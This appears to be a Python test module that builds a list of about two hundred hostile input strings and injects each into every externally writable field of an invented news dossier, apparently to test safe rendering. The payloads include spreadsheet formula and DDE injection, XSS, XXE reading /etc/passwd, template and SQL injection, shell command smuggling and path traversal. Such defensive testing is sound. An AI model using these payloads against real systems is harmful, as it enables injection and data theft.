"""Two hundred hostile texts, and a dossier that has one wherever a stranger can write."""

from __future__ import annotations

from dataclasses import replace

from secondsource.compose.dossier import Dossier
from secondsource.spans import Span
from tell.invented import dossier

_FORMULAS = (
    "=1+1", '=HYPERLINK("http://x.example","y")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＠SUM(1)",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', '=DDE("cmd";"/C calc";"x")', "|calc", "%0A=1",
    '";=1+1;"', "',=1+1,'", 'a"\r\n=1+1,b',
)  # fmt: skip
_SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "javascript:alert(1)", "<svg/onload=alert(1)>",
    "-->", "]]>", "<!--", "<![CDATA[", '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "&e;", "&lt;b&gt;", "&#x3c;b&#x3e;", "&amp;amp;", "{{ 7 * 7 }}", "{% for x in y %}", "${7*7}", "#{7*7}",
    "<iframe src=//x.example>", "<base href=//x.example>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//x>",
    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "![x](http://x.example/y.png)", "`code`", "***",
    "<math><mtext></form>", "<template>", "url(http://x.example/a.png)", "@import 'http://x.example'", "</style><b>",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "http://[::1", "//x.example",
)  # fmt: skip
_CONTROLS = (
    "a\x00b", "a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1b[31mred", "a\x1b]0;title\x07", "a\x7fb", "a\x85b",
    "a\x9b31m", "a\ud800b", "a\udfffb", "\udc80", "a\ufffeb", "a\uffffb", "a\U0001ffffb", "\u202ekcab", "a\u202ab\u202c",
    "\u2066a\u2069", "\u2067b", "a\u2028b", "a\u2029b", "a\u200eb", "a\u200fb", "\ufeff", "\u00ad", "\u200d\u200c",
    "e\u0301" * 8, "Z\u0335\u0321\u0356" * 6, "👩‍👩‍👧‍👦", "مرحبا", "שלום", "𝕋𝕖𝕩𝕥", "\u3000",
)  # fmt: skip
_LINES = (
    "a\nb", "a\r\nb", "a\rb", "a\n\nb", "# heading", "- list", "1. list", "> quote", "| a | b |", "```", "---", "===",
    "title\nX-Header: 1", "END:VEVENT", "\r\nEND:VEVENT\r\nBEGIN:VALARM", "a;b,c\\d:e", "DTSTART:19700101", "\\n\\,\\;",
    "a,b", "a;b", 'a"b', "a'b", "a\\b", "a|b", '"""', "'''", "\\u003cscript\\u003e", "\\x00", "%00", "%3Cscript%3E",
    "../../etc/passwd", "..\\..\\x", "C:\\x", "/etc/passwd", "~", "NUL", "a" * 300, "é" * 200, "漢" * 100, " ", "",
)  # fmt: skip
_JSON = (
    '"}]}', '{"@context": "http://x.example"}', "@context", "@id", "@type", "__proto__", "constructor", "null",
    "NaN", "Infinity", "-0", "1e999", "\\", '\\"', "\\ud800", '{"$ref": "#"}', "[object Object]", "undefined", "true",
)  # fmt: skip
_SQL = (
    "' OR 1=1 --", "'; DROP TABLE reports; --", '" OR ""="', "1; SELECT 1", "%s%s%s%n", "%(x)s", "{0.__class__}", "{}",
    "$(touch x)", "`touch x`", "; touch x", "&& touch x", "| touch x", "a\\", "*", "?", "[a-z]", "(?:", "^$", "(((((((((",
)  # fmt: skip

PAYLOADS = (*_FORMULAS, *_SCRIPTS, *_CONTROLS, *_LINES, *_JSON, *_SQL)
# The same behind and before honest words, until there are two hundred.
PAYLOADS += tuple(f"The pier is shut. {p} The mayor left." for p in PAYLOADS[: 200 - len(PAYLOADS)])


def everywhere(text: str) -> Dossier:
    """The invented dossier with a hostile text in every field that a stranger can fill."""
    full = dossier()
    first = full.reports[0]
    report = replace(
        first, source=text, outlet=text, title=text, byline=text, agencies=(text,), url=text,
        canonical=text, notices=(text,), language=text, text=text + first.text + text,
    )  # fmt: skip
    moved = {r.id: len(text) if r.id == "A" else 0 for r in full.reports}
    return replace(
        full,
        title=text,
        reports=(report, *full.reports[1:]),
        blocks={},
        copies=(),
        statements=tuple(_shifted(s, moved[s.report], text) for s in full.statements),
        entities=tuple(replace(e, name=text, mentions=()) for e in full.entities),
        labels=(),
        claims=tuple(replace(c, gloss=text, because=text) for c in full.claims),
        conflicts=tuple(
            replace(
                x, what=text, because=text, sides=tuple(replace(s, value=text) for s in x.sides)
            )
            for x in full.conflicts
        ),
        notices=(text,),
    )


def _shifted(s, by, text):  # type: ignore[no-untyped-def]
    def span(old):  # type: ignore[no-untyped-def]
        return Span(old.start + by, old.end + by) if old else None

    return replace(
        s,
        # The words themselves are hostile too: the first statement covers what stands before it.
        span=Span(0, s.span.end + by) if s.id == "A1" else span(s.span),
        because=text,
        chain=tuple(
            replace(x, source=text or "nobody", words=span(x.words), cue=span(x.cue))
            for x in s.chain
        ),
        quantities=tuple(replace(q, span=span(q.span)) for q in s.quantities),
        times=tuple(replace(t, span=span(t.span)) for t in s.times),
        places=tuple(replace(p, name=text or "nowhere", span=span(p.span)) for p in s.places),
    )
